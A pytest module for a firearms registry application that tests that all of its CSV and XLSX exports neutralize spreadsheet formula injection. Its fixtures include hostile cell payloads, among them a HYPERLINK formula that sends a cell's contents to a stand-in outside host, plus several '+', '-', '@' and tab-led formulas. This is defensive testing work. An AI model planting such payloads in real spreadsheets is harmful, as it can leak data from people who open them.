"""One writer for every spreadsheet the product writes, and it neutralizes formulas.

The code is searched for every place that writes CSV or XLSX: the only ``csv.writer`` and
the only ``openpyxl`` workbook are in ``reports/spreadsheets.py``; every module that writes
a spreadsheet through it is listed in ``WRITERS`` below, and each of those is fed hostile
cells (text led by ``=``, ``+``, ``-``, ``@``, tab, carriage return) through the command
or service that writes it. Not one cell comes out live.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from resguardo.cli import context
from resguardo.cli.main import app as cli_app
from resguardo.domain.registry import FirearmInput
from resguardo.reports.spreadsheets import Table, read_back, write_csv, write_xlsx
from resguardo.services import imports, registry
from resguardo.services.imports import ImportOptions, import_file
from resguardo.sheets.formulas import TRIGGERS

from world import build_world

SRC = Path(__file__).resolve().parents[2] / "src" / "resguardo"
THE_WRITER = "reports/spreadsheets.py"
HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"ver")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]
runner = CliRunner()


def _names(tree: ast.AST) -> set[str]:
    """What a module uses that writes a spreadsheet: csv.writer / csv.DictWriter, an openpyxl
    Workbook, xlsxwriter, or the one writer's functions."""
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and \
                node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
            found.add(f"csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {a.name for a in node.names}
            if node.module.startswith("openpyxl") and "Workbook" in names:
                found.add("openpyxl.Workbook")
            if node.module == "resguardo.reports.spreadsheets":
                found |= {f"spreadsheets.{n}" for n in names
                          & {"CsvWriter", "write_csv", "write_xlsx", "csv_cell"}}
        elif isinstance(node, ast.Import | ast.ImportFrom):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else \
                [node.module or ""]
            if any(m.startswith("xlsxwriter") for m in modules):
                found.add("xlsxwriter")
    return found


def _writers() -> dict[str, set[str]]:
    out = {}
    for path in sorted(SRC.rglob("*.py")):
        rel = path.relative_to(SRC).as_posix()
        used = _names(ast.parse(path.read_text(encoding="utf-8")))
        if used:
            out[rel] = used
    return out


# --- each writer, fed hostile cells ---------------------------------------------------------


def _cells_of_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
            for cell in row]


def _read(path: Path) -> str:
    """A written CSV as it is (carriage returns in cells kept)."""
    return path.read_bytes().decode("utf-8-sig")


def assert_inert(cells: list[str], where: str) -> None:
    live = [c for c in cells if c.startswith(TRIGGERS)]
    assert not live, f"{where}: cells a spreadsheet would run: {live}"
    for hostile in HOSTILE:  # each arrived (a reader may trim the tab), neutralized
        assert any(hostile.strip() in c for c in cells), (where, hostile)


def exports(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """``export`` and the licence report: ``write_csv`` and ``write_xlsx`` themselves."""
    out = tmp_path / "out.csv"
    write_csv(out, ["a", *HOSTILE], [HOSTILE, [1, *HOSTILE[:-1]]])
    assert_inert(_cells_of_csv(_read(out)), "write_csv")
    book = tmp_path / "out.xlsx"
    write_xlsx(book, [Table("t", ["a", *HOSTILE], [HOSTILE])])
    from openpyxl import load_workbook
    sheet = load_workbook(book).worksheets[0]
    for cell in sheet[2][:len(HOSTILE)]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value  # text, never a formula
    # read back as the text written (XML keeps no bare carriage return: it reads as \n)
    assert read_back(book)[0][1] == [h.replace("\r", "\n") for h in HOSTILE]


def rejected_rows(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """The refused rows of an import (CLI --rejects, the web's and the API's download)."""
    sheet = tmp_path / "inventario.csv"
    with sheet.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)  # the hostile file itself, as a person would bring it
        w.writerow(["Serie", "Marca", "Calibre", "Tipo", "Modelo", "Notas"])
        for n, bad in enumerate(HOSTILE):
            w.writerow([f"X-{n}", "Glock", "9mm", "cañón", bad, bad])
    out = io.StringIO()
    with app.work("armero1") as uow:
        report = import_file(uow, "firearms", str(sheet), ImportOptions(
            agency="MUN1", location="ARM1", skip_invalid=True),
            rejects=imports.CsvRejects(out, "inventario.csv", "es"))
    assert report.rejected == len(HOSTILE)
    assert_inert(_cells_of_csv(out.getvalue()), "rejected rows")


def reconcile_csv(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """``resguardo reconcile --csv``."""
    reg, count, out = tmp_path / "reg.csv", tmp_path / "count.csv", tmp_path / "found.csv"
    with reg.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["serial", "make", "calibre", "kind", "location", "model"])
        for n, bad in enumerate(HOSTILE):
            w.writerow([f"R{n}00", "Glock", "9mm", "pistol", bad, bad])
    with count.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["serial", "location", "note"])
        for n, bad in enumerate(HOSTILE):
            w.writerow([f"S{n}00", bad, bad])
    result = runner.invoke(cli_app, ["reconcile", "--registry", str(reg), "--count", str(count),
                                      "--csv", str(out)])
    assert result.exit_code in (0, 1), result.output
    assert_inert(_cells_of_csv(_read(out)), "reconcile --csv")


def duplicates_csv(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """``resguardo check duplicates --csv``: hostile serials that look alike."""
    with app.work("armero1") as uow:  # (a registry holds no tab or carriage return)
        for n, lead in enumerate("=+-@"):
            for serial in (f"{lead}KX{n}4500", f"{lead}KX{n}450O"):
                registry.register_firearm(uow, "MUN1", "ARM1", FirearmInput(
                    serial=serial, make=f"{lead}Arms", calibre="9mm", kind="pistol"))
        uow.commit()
    out = tmp_path / "dup.csv"
    result = runner.invoke(cli_app, ["--as", "supervisor", "check", "duplicates", "--csv",
                                     str(out)])
    assert result.exit_code == 0, result.output
    cells = _cells_of_csv(_read(out))
    live = [c for c in cells if c.startswith(TRIGGERS)]
    assert not live, f"check duplicates --csv: cells a spreadsheet would run: {live}"
    assert {c[:2] for c in cells if c.startswith("'")} >= {"'=", "'+", "'-", "'@"}


def trace_file(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """``resguardo trace --file`` answers as CSV (the query echoed, the candidates)."""
    with app.work("armero1") as uow:
        registry.register_firearm(uow, "MUN1", "ARM1", FirearmInput(
            serial="=QX100", make="@Arms", model="+M1", calibre="9x19mm", kind="pistol"))
        uow.commit()
    queries = tmp_path / "consultas.csv"
    queries.write_text("serial\n=QX100\n-QX100\n", encoding="utf-8")
    result = runner.invoke(cli_app, ["--as", "investigador", "trace", "--file", str(queries)])
    assert result.exit_code == 0, result.output
    cells = _cells_of_csv(result.stdout)
    live = [c for c in cells if c.startswith(TRIGGERS)]
    assert not live, f"trace --file: cells a spreadsheet would run: {live}"
    assert {"'=QX100", "'@Arms", "'+M1", "'-QX100"} <= set(cells)


def import_templates(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """The blank import templates: the sheet's and guide's words come from a translation,
    which a hostile catalogue could turn into formulas; not one cell comes out live."""
    from resguardo.reports.import_template import template_csv, template_xlsx
    from resguardo.services.import_firearms import SCHEMAS
    schema = SCHEMAS["firearms"]
    book = tmp_path / "plantilla.xlsx"
    book.write_bytes(template_xlsx(schema, {"serial": HOSTILE[0]}, sheet="=Armas",
                                   guide="@Columnas", guide_headers=("=a", "+b", "-c"),
                                   yes="@si", no="-no"))
    from openpyxl import load_workbook
    cells = [c for sheet in load_workbook(book).worksheets for row in sheet.iter_rows()
             for c in row if isinstance(c.value, str)]
    assert cells and not [c.value for c in cells if c.data_type == "f"]
    risky = [c for c in cells if c.value.startswith(TRIGGERS)]
    assert risky and all(c.quotePrefix for c in risky)
    text = template_csv(schema, {"serial": HOSTILE[0]}).decode("utf-8-sig")
    assert "serial" in text.splitlines()[0]  # a header the importer does not read is not used


def licence_sheets(tmp_path: Path, app) -> None:  # type: ignore[no-untyped-def]
    """``licence report --format xlsx`` and ``export licence --format xlsx`` (Modelo 4):
    hostile text in the form's heading (the licence number) and in the rows."""
    from datetime import date
    with app.work("admin") as uow:
        registry.add_licence(uow, "=LOC(1)", "SSP", ["MUN1"], date(2025, 1, 1),
                             date(2030, 1, 1))
        uow.commit()
    with app.work("armero1") as uow:
        for n, bad in enumerate(HOSTILE[:4]):
            registry.register_firearm(uow, "MUN1", "ARM1", FirearmInput(
                serial=f"{bad[0]}LX{n}", make=f"{bad[0]}Arms", model=bad, calibre="9mm",
                kind="pistol"), "=LOC(1)")
        uow.commit()
    report, modelo4 = tmp_path / "informe.xlsx", tmp_path / "modelo4.xlsx"
    for args in (["licence", "report", "=LOC(1)", "--format", "xlsx", "--out", str(report)],
                 ["export", "licence", "=LOC(1)", "--from", "2025-01-01", "--to", "2030-01-01",
                  "--format", "xlsx", "--out", str(modelo4)]):
        result = runner.invoke(cli_app, ["--as", "supervisor", *args])
        assert result.exit_code == 0, result.output
    from openpyxl import load_workbook
    for book in (report, modelo4):
        cells = [c for sheet in load_workbook(book).worksheets for row in sheet.iter_rows()
                 for c in row if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
        assert cells, book.name
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), [
            c.value for c in cells if not c.quotePrefix]
    sheet = load_workbook(report)["Armamento"]
    assert {r[5].value for r in sheet.iter_rows(min_row=2)} == set(HOSTILE[:4])


#: module -> the cases that feed what it writes hostile cells
WRITERS: dict[str, tuple[Callable[[Path, object], None], ...]] = {
    THE_WRITER: (exports,),
    "cli/exports.py": (exports,),
    "services/imports.py": (rejected_rows,),
    "reports/reconciliation.py": (reconcile_csv,),
    "cli/trace.py": (duplicates_csv, trace_file),
    "cli/licences.py": (licence_sheets,),
    "reports/import_template.py": (import_templates,),
}


def test_every_spreadsheet_is_written_by_the_one_writer_and_each_writer_is_tested():
    found = _writers()
    raw = {m: u for m, u in found.items()
           if m != THE_WRITER and u & {"csv.writer", "csv.DictWriter", "openpyxl.Workbook",
                                       "xlsxwriter"}}
    assert not raw, f"spreadsheets written around {THE_WRITER}: {raw}"
    assert set(found) == set(WRITERS), (
        f"writers in the code: {sorted(found)}; tested here: {sorted(WRITERS)}")


@pytest.fixture
def app(sqlite_url, clock, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    monkeypatch.delenv("RESGUARDO_USER", raising=False)
    built = build_world(sqlite_url, clock, tmp_path)
    context.set_deployment(built)
    yield built
    context.set_deployment(None)


@pytest.mark.parametrize("case", sorted({c for cases in WRITERS.values() for c in cases},
                                        key=lambda c: c.__name__),
                         ids=lambda c: c.__name__)
def test_each_writer_neutralizes_hostile_cells(case, tmp_path, app):
    case(tmp_path, app)
